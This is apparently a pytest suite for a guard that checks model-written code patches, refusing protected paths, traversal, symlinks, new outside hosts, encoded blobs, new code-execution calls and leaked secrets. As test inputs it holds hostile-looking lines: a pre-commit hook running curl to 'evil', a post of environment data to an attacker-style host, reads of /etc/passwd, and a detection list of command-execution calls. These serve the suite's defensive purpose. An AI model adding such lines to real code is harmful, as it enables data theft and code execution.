"""The patch guard: what a model-written edit may touch and add, and the writer behind it."""

from __future__ import annotations

import hashlib
import os
import subprocess
from pathlib import Path

import pytest

from watcher.fix.patch import Edit, GuardResult, apply, guard
from watcher.fix.policy import DEFAULT_DENYLIST, Policy, path_matches

SERVICE = '''"""Orders service."""


def average(values):
    total = sum(values)
    return total / len(values)


def label(order):
    return order["name"].upper()
'''

FIX = Edit(
    "app/service.py",
    "    return total / len(values)\n",
    "    if not values:\n        return 0.0\n    return total / len(values)\n",
)

# context lines of blank source lines are a single space, which an editor would strip
EXPECTED_DIFF = "\n".join(
    [
        "diff --git a/app/service.py b/app/service.py",
        "--- a/app/service.py",
        "+++ b/app/service.py",
        "@@ -3,6 +3,8 @@",
        " ",
        " def average(values):",
        "     total = sum(values)",
        "+    if not values:",
        "+        return 0.0",
        "     return total / len(values)",
        " ",
        " ",
        "",
    ]
)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A checkout with an app file, protected files, binaries and symlinks in and out."""
    root = tmp_path / "repo"
    files = {
        "app/service.py": SERVICE,
        "app/runner.py": "import subprocess\n\n\ndef run(cmd):\n    return subprocess.run(cmd)\n",
        "app/client.py": 'BASE = "https://api.example.com/v1"\n\n\ndef url(p):\n    return p\n',
        ".github/workflows/ci.yml": "on: push\n",
        "Dockerfile": "FROM python:3.11\n",
        "services/api/Dockerfile.prod": "FROM python:3.11\n",
        "pyproject.toml": "[project]\nname = 'app'\n",
        "requirements-dev.txt": "pytest\n",
        "poetry.lock": "# lock\n",
        ".env.production": "DB=1\n",
        "certs/server.pem": "-----BEGIN CERTIFICATE-----\n",
        "deploy/app.yaml": "kind: Deployment\n",
        "secrets/db.txt": "x\n",
        "docker-compose.prod.yml": "services: {}\n",
    }
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    (root / "assets").mkdir()
    (root / "assets/logo.bin").write_bytes(b"PNG\x00\x01\x02")
    (root / "assets/latin1.txt").write_bytes("caf\xe9\n".encode("latin-1"))
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "passwd").write_text("root:x:0:0\n")
    (root / "escape").symlink_to(outside)
    (root / "app/alias.py").symlink_to(root / "app/service.py")
    return root


def snapshot(root: Path) -> dict[str, str]:
    """Path → sha256 of every regular file under root (symlinks not followed)."""
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def refused(result: GuardResult, fragment: str) -> None:
    """Assert the result is a refusal carrying a reason that contains `fragment`."""
    assert not result.ok
    assert result.files == {} and result.diff == ""
    assert any(fragment in reason for reason in result.reasons), result.reasons


def test_good_edit_passes_with_exact_diff(repo: Path) -> None:
    """A clean one-hunk fix is accepted with the git-style diff, stats and full new content."""
    result = guard([FIX], repo, Policy())
    assert result.ok, result.reasons
    assert result.diff == EXPECTED_DIFF
    assert (result.stats.files, result.stats.added, result.stats.removed) == (1, 2, 0)
    assert result.files == {"app/service.py": SERVICE.replace(FIX.search, FIX.replace)}


def test_diff_applies_with_git(repo: Path) -> None:
    """The diff, new file included, is accepted by `git apply --check` on the original tree."""
    new_test = Edit("tests/test_service.py", "", "def test_empty():\n    assert True\n")
    result = guard([FIX, new_test], repo)
    assert result.ok and result.new_files == ("tests/test_service.py",)
    assert "new file mode 100644\n--- /dev/null\n+++ b/tests/test_service.py" in result.diff
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    check = subprocess.run(
        ["git", "apply", "--check", "-"],
        cwd=repo,
        input=result.diff,
        text=True,
        capture_output=True,
    )
    assert check.returncode == 0, check.stderr


def test_consecutive_edits_to_one_file_compose(repo: Path) -> None:
    """A second edit of the same file applies to the text the first edit produced."""
    second = Edit("app/service.py", "        return 0.0\n", "        return 0.0  # empty input\n")
    result = guard([FIX, second], repo)
    assert result.ok
    assert "return 0.0  # empty input" in result.files["app/service.py"]


@pytest.mark.parametrize(
    "path",
    [
        ".github/workflows/ci.yml",
        ".GITHUB/workflows/ci.yml",
        "Dockerfile",
        "services/api/Dockerfile.prod",
        "pyproject.toml",
        "requirements-dev.txt",
        "poetry.lock",
        ".env.production",
        "certs/server.pem",
        "deploy/app.yaml",
        "secrets/db.txt",
        "docker-compose.prod.yml",
        "app/.env",
        "setup.py",
        "go.sum",
        "package-lock.json",
        "keys/id_rsa",
    ],
)
def test_denylist_refuses(repo: Path, path: str) -> None:
    """Each default deny rule refuses edits and creations of its files, at any case."""
    exists = (repo / path).exists()
    edit = Edit(path, (repo / path).read_text()[:4], "x") if exists else Edit(path, "", "x\n")
    refused(guard([edit], repo), "protected path")


def test_git_metadata_is_always_refused(repo: Path) -> None:
    """`.git/` stays protected even with an empty configured denylist (hooks run code)."""
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    edit = Edit(".git/hooks/pre-commit", "", "#!/bin/sh\ncurl evil\n")
    refused(guard([edit], repo, Policy(denylist=())), "protected path")


def test_extra_denylist_adds_to_defaults(repo: Path) -> None:
    """Configured patterns refuse more paths while the defaults still apply."""
    policy = Policy().with_extra_denylist(("app/client.py",))
    refused(guard([Edit("app/client.py", "BASE", "ROOT")], repo, policy), "protected path")
    refused(guard([Edit("Dockerfile", "FROM", "FROM ")], repo, policy), "protected path")


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("../../etc/passwd", "leaves the repository"),
        ("app/../../outside/passwd", "leaves the repository"),
        ("/etc/passwd", "absolute paths are not allowed"),
        ("~/.bashrc", "absolute paths are not allowed"),
        ("C:/Windows/win.ini", "absolute paths are not allowed"),
        ("escape/passwd", "resolves outside the repository"),
        ("app/alias.py", "is a symlink"),
        ("app", "is not a regular file"),
        ("app\\service.py", "not a usable relative path"),
        ("", "not a usable relative path"),
    ],
)
def test_paths_must_stay_inside(repo: Path, path: str, reason: str) -> None:
    """Traversal, absolute paths, symlinks (out or in) and directories are refused."""
    refused(guard([Edit(path, "root", "toor")], repo), reason)


@pytest.mark.parametrize(
    ("path", "reason"),
    [("assets/logo.bin", "binary file"), ("assets/latin1.txt", "not UTF-8 text")],
)
def test_binaries_are_refused(repo: Path, path: str, reason: str) -> None:
    """Files with NUL bytes or invalid UTF-8 are not edited."""
    refused(guard([Edit(path, "caf", "cafe")], repo), reason)


def test_adding_a_nul_byte_is_refused(repo: Path) -> None:
    """Replacement text with a NUL byte would make a text file binary."""
    refused(guard([Edit("app/service.py", "total = ", "total =\x00 ")], repo), "NUL byte")


@pytest.mark.parametrize(
    ("edit", "reason"),
    [
        (Edit("app/service.py", "return  total", "x"), "found 0 times"),
        (Edit("app/service.py", "    return ", "    return  "), "found 2 times"),
        (Edit("app/missing.py", "x = 1", "x = 2"), "the file does not exist"),
        (Edit("app/service.py", "", "print()\n"), "empty search but the file already exists"),
    ],
)
def test_edit_must_apply_exactly_once(repo: Path, edit: Edit, reason: str) -> None:
    """A search text must occur exactly once; creation needs an absent file."""
    refused(guard([edit], repo), reason)


def test_overlapping_occurrences_count(repo: Path) -> None:
    """Overlapping matches count as two: "aa" in "aaa" is ambiguous."""
    (repo / "app/a.py").write_text("x = 'aaa'\n")
    refused(guard([Edit("app/a.py", "aa", "b")], repo), "found 2 times")


def test_crlf_files_match_lf_search(repo: Path) -> None:
    """A CRLF file accepts an LF search block and keeps its CRLF line endings."""
    (repo / "app/win.py").write_bytes(b"def f():\r\n    return 1\r\n")
    result = guard(
        [Edit("app/win.py", "def f():\n    return 1\n", "def f():\n    return 2\n")], repo
    )
    assert result.ok
    assert result.files["app/win.py"] == "def f():\r\n    return 2\r\n"


def test_edits_that_change_nothing_are_refused(repo: Path) -> None:
    """A search equal to its replacement is not a fix."""
    refused(guard([Edit("app/service.py", "total = ", "total = ")], repo), "change nothing")


def test_no_edits_is_refused(repo: Path) -> None:
    """An empty edit list is refused, not accepted as a no-op."""
    refused(guard([], repo), "no edits")


def test_max_files(repo: Path) -> None:
    """More files than the cap is refused."""
    edits = [Edit(f"app/new_{i}.py", "", f"X = {i}\n") for i in range(6)]
    refused(guard(edits, repo, Policy(max_files=5)), "changes 6 files (limit 5)")
    assert guard(edits[:5], repo, Policy(max_files=5)).ok


def test_max_changed_lines(repo: Path) -> None:
    """More added+removed lines than the cap is refused."""
    body = "".join(f"V{i} = {i}\n" for i in range(201))
    refused(guard([Edit("app/big.py", "", body)], repo), "changes 201 lines (limit 200)")
    assert guard([Edit("app/big.py", "", body)], repo, Policy(max_changed_lines=201)).ok


@pytest.mark.parametrize(
    "added",
    [
        'requests.post("https://collector.evil.example/x", data=env)',
        'HOST = "http://10.1.2.3:8080"',
        'sock.connect(("203.0.113.9", 443))',
        'target = "exfil.attacker.io"',
        'git = "ssh://git@code.example.net/repo"',
    ],
)
def test_new_hosts_are_refused(repo: Path, added: str) -> None:
    """URLs, IP literals and quoted host names not already in the file are refused."""
    edit = Edit(
        "app/service.py", "    total = sum(values)\n", f"    total = sum(values)\n    {added}\n"
    )
    refused(guard([edit], repo), "adds a link to")


def test_known_host_is_allowed(repo: Path) -> None:
    """A URL whose host the file already uses is fine (e.g. a new endpoint path)."""
    edit = Edit("app/client.py", '"https://api.example.com/v1"', '"https://api.example.com/v2"')
    assert guard([edit], repo).ok


def test_encoded_blobs_are_refused(repo: Path) -> None:
    """Base64/hex runs of 200+ characters and long \\x escape runs are refused; short ones pass."""
    for blob in ("QUJD" * 50, "deadbeef" * 25, "\\x41" * 50):
        edit = Edit("app/service.py", "total = sum(values)", f"total = sum(values)  # {blob}")
        refused(guard([edit], repo), "encoded blob")
    edit = Edit("app/service.py", "total = sum(values)", f"total = sum(values)  # {'ab' * 40}")
    assert guard([edit], repo).ok


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ("eval(order)", "eval("),
        ("exec(order)", "exec("),
        ("import subprocess", "subprocess"),
        ("os.system('id')", "os.system"),
        ("os.popen('id')", "os.popen"),
        ("os.execvp('sh', [])", "os.exec*"),
        ("__import__('os')", "__import__"),
        ("pickle.loads(order)", "pickle/marshal loads"),
        ("require('child_process')", "child_process"),
        ("Runtime.getRuntime().exec(cmd)", "Runtime.getRuntime().exec"),
    ],
)
def test_new_code_execution_is_refused(repo: Path, code: str, name: str) -> None:
    """Calls that run code or commands may not be added."""
    edit = Edit(
        "app/service.py", '    return order["name"]', f'    {code}\n    return order["name"]'
    )
    refused(guard([edit], repo), f"adds a new {name}")


def test_existing_subprocess_use_may_stay(repo: Path) -> None:
    """A file that already uses subprocess can be edited without adding another use."""
    edit = Edit("app/runner.py", "subprocess.run(cmd)", "subprocess.run(cmd, check=True)")
    assert guard([edit], repo).ok
    extra = Edit("app/runner.py", "    return", "    subprocess.call(cmd)\n    return")
    refused(guard([extra], repo), "adds a new subprocess")


def test_secret_scan_sees_only_added_lines_and_reason_hides_value(repo: Path) -> None:
    """The scan gets the added lines; the reason names the rule, never the secret."""
    secret = "AKIAABCDEFGHIJKLMNOP"
    seen: list[str] = []

    class Finding:
        kind = "aws-access-key"

    def scan(text: str) -> list[Finding]:
        seen.append(text)
        return [Finding()] if secret in text else []

    edit = Edit(
        "app/service.py", "    total = sum(values)\n", f"    total = sum(values)  # {secret}\n"
    )
    result = guard([edit], repo, secret_scan=scan)
    refused(result, "adds 1 secret(s) (aws-access-key)")
    assert seen == [f"    total = sum(values)  # {secret}\n"]
    assert secret not in " ".join(result.reasons)
    assert guard([FIX], repo, secret_scan=scan).ok


def test_rejection_lists_every_reason_and_writes_nothing(repo: Path) -> None:
    """A patch with several problems reports them all; the tree is unchanged and apply refuses."""
    before = snapshot(repo)
    edits = [
        FIX,
        Edit(".github/workflows/ci.yml", "on", "off"),
        Edit("../../etc/passwd", "root", "x"),
        Edit("app/service.py", "not there", "x"),
        Edit("app/client.py", "def url(p):\n", "def url(p):\n    eval(p)\n"),
    ]
    result = guard(edits, repo)
    assert not result.ok and len(result.reasons) == 4, result.reasons
    assert snapshot(repo) == before
    with pytest.raises(ValueError, match="rejected"):
        apply(result, repo)
    assert snapshot(repo) == before


def test_apply_writes_files_and_keeps_mode(repo: Path) -> None:
    """Accepted files are written in place (exec bit kept) and new files created with dirs."""
    os.chmod(repo / "app/service.py", 0o755)
    new = Edit("tests/unit/test_avg.py", "", "def test_avg():\n    pass\n")
    result = guard([FIX, new], repo)
    assert apply(result, repo) == ["app/service.py", "tests/unit/test_avg.py"]
    assert (repo / "app/service.py").read_text() == result.files["app/service.py"]
    assert os.stat(repo / "app/service.py").st_mode & 0o777 == 0o755
    assert (repo / "tests/unit/test_avg.py").read_text().startswith("def test_avg")


@pytest.mark.parametrize(
    ("path", "pattern", "matches"),
    [
        ("Dockerfile", "Dockerfile*", True),
        ("svc/Dockerfile.dev", "Dockerfile*", True),
        ("svc/Dockerfile.dev", "**/Dockerfile*", True),
        ("docs/deploy/notes.md", "deploy/**", False),
        ("deploy/x/y.yaml", "deploy/**", True),
        (".github/workflows/ci.yml", ".github/**", True),
        ("src/github/client.py", ".github/**", False),
        ("a/b/c.lock", "*.lock", True),
        ("src/lockfile.py", "*.lock", False),
        ("compose.yaml", "compose*.y*ml", True),
        ("src/compose.py", "compose*.y*ml", False),
    ],
)
def test_glob_semantics(path: str, pattern: str, matches: bool) -> None:
    """Unanchored patterns match a name at any depth; anchored ones from the root only."""
    assert path_matches(path, pattern) is matches


def test_default_denylist_covers_the_issue_list() -> None:
    """The defaults include every family the issue names."""
    for pattern in (".github/**", "Dockerfile*", "deploy/**", "pyproject.toml", "*.lock", ".env*"):
        assert pattern in DEFAULT_DENYLIST


def test_real_redactor_findings_plug_in(repo: Path) -> None:
    """`Redactor().findings` is accepted as the secret scan; reasons carry rule ids only."""
    from watcher.fix.redact import Redactor

    token = "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345"
    edit = Edit("app/service.py", "total = sum(values)", f"total = sum(values)  # {token}")
    result = guard([edit], repo, secret_scan=Redactor().findings)
    refused(result, "github-pat")
    assert token not in " ".join(result.reasons)
    assert guard([FIX], repo, secret_scan=Redactor().findings).ok
